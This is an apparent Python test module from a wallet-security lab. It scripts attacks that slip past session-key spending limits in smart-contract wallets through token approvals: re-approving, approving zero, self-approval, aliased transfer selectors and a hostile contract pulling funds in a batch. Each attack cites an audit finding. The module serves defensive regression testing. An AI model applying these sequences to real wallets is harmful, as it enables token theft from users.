"""Attacks that use token approvals: an allowance must be counted when it is approved, not when it is spent."""

from __future__ import annotations

from eth_hash.auto import keccak

from sessionlab.attacks.attack import attack
from sessionlab.attacks.attack_lab import STRANGER, TOKEN, WALLET, AttackLab
from sessionlab.attacks.gains import units
from sessionlab.attacks.operations import act, install, transact
from sessionlab.attacks.spend import COINS, KEY, coins, token_abi
from sessionlab.core.base.addresses import checksum
from sessionlab.core.contracts.artifacts import artifact
from sessionlab.core.erc4337.call import Call
from sessionlab.core.permissions import ContractAccess, FunctionsOnAllContracts
from sessionlab.core.permissions.functions import PERMIT


def pull(lab: AttackLab, amount: int, holder: str = WALLET) -> None:
    """Have the attacker take ``amount`` of the tokens it was approved for."""
    transact(lab, STRANGER, TOKEN, token_abi.encode("transferFrom", holder, STRANGER.address, amount))


@attack("approvals", holds=KEY, gain="100 units instead of 50", source="Modular Account v1 audit, MSCA-1, high")
def approve_then_pull(lab: AttackLab) -> str:
    """approve is not counted, or as a difference: drain by transfer, approve the same again, pull."""
    install(lab, [COINS])
    act(lab, [coins(50), coins(50, "approve")])
    act(lab, [coins(50, "approve")])
    pull(lab, 50)
    act(lab, [coins(50)])
    return units(lab, more_than=50)


@attack("approvals", holds=KEY, gain="100 units instead of 50", source="Modular Account v1 audit, MSCA-1, high")
def approve_to_zero(lab: AttackLab) -> str:
    """approve(0) gives nothing back: approve, pull, approve 0, spend again."""
    install(lab, [COINS])
    act(lab, [coins(50, "approve")])
    pull(lab, 50)
    act(lab, [coins(0, "approve")])
    act(lab, [coins(50)])
    return units(lab, more_than=50)


@attack("approvals", holds=KEY, gain="all tokens", source="Porto account history")
def self_approve(lab: AttackLab) -> str:
    """The wallet approves itself, then transferFrom moves its own tokens."""
    install(lab, [COINS])
    itself = Call(TOKEN, data=token_abi.encode("approve", WALLET, 50))
    takes = Call(TOKEN, data=token_abi.encode("transferFrom", WALLET, STRANGER.address, 50))
    act(lab, [itself])
    act(lab, [takes])
    act(lab, [itself, takes])
    act(lab, [coins(50)])
    return units(lab, more_than=50)


@attack("approvals", holds=KEY, gain="tokens beyond the limit of 50", source="Modular Account v1 audit, 5.2.1")
def alias_functions(lab: AttackLab) -> str:
    """Every other name by which a token moves: increaseAllowance, transferFrom, push, pull, move, permit."""
    names = ("0x39509351", "0x23b872dd", "0xb753a98c", "0xf2d5d56b", "0xbb35783b", "0x" + PERMIT.hex())
    install(lab, [COINS, FunctionsOnAllContracts(functions=list(names))])
    act(lab, [coins(51, "increaseAllowance")])
    act(lab, [Call(TOKEN, data=token_abi.encode("transferFrom", WALLET, STRANGER.address, 51))])
    for name in names:
        act(lab, [Call(TOKEN, data=bytes.fromhex(name[2:]) + coins(51).data[4:])])
    pull(lab, 51)
    return units(lab)


@attack(
    "approvals",
    holds="the session key and a contract that it may call",
    gain="200 units instead of 50",
    source="Modular Account v1 audit, MSCA-1, high",
)
def approve_again_in_a_batch(lab: AttackLab) -> str:
    """approve is counted as a difference: in one batch, a contract pulls what is approved, and it is approved again."""
    hostile = artifact("Hostile")
    trap = checksum(keccak(b"sessionlab attacks trap")[12:])
    lab.chain.set_code(trap, hostile.runtime)
    install(lab, [COINS, ContractAccess(address=trap)])
    again = Call(TOKEN, data=token_abi.encode("approve", trap, 50))
    act(lab, [again])
    for _ in range(4):
        take = token_abi.encode("transferFrom", WALLET, STRANGER.address, 50)
        transact(lab, STRANGER, trap, hostile.encode("arm", [(TOKEN, 0, take)], b"", False))
        act(lab, [Call(trap), again])
    return units(lab, more_than=50)
